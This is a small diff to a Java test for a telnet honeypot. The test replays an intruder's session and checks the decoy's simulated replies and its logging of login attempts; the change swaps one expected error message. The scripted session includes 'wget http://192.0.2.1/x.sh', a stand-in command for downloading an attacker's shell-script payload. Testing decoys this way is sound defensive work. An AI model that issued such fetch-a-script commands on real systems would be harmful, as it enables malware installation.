@@ -81,7 +81,7 @@ class TelnetDecoyTest extends DecoyContract {
       assertThat(talker.say("cd /tmp; uname -m; echo hi > a && cat a").until("# "))
           .contains("x86_64\r\nhi\r\n");
       assertThat(talker.say("wget http://192.0.2.1/x.sh").until("/tmp# "))
-          .contains("Connection timed out");
+          .contains("Connection refused");
       talker.say("exit");
       List<Event> events = ReadLines.of(site.untilDisconnect());
       List<Event> logins = events.stream().filter(e -> e.kind() == EventKind.AUTH_ATTEMPT).toList();
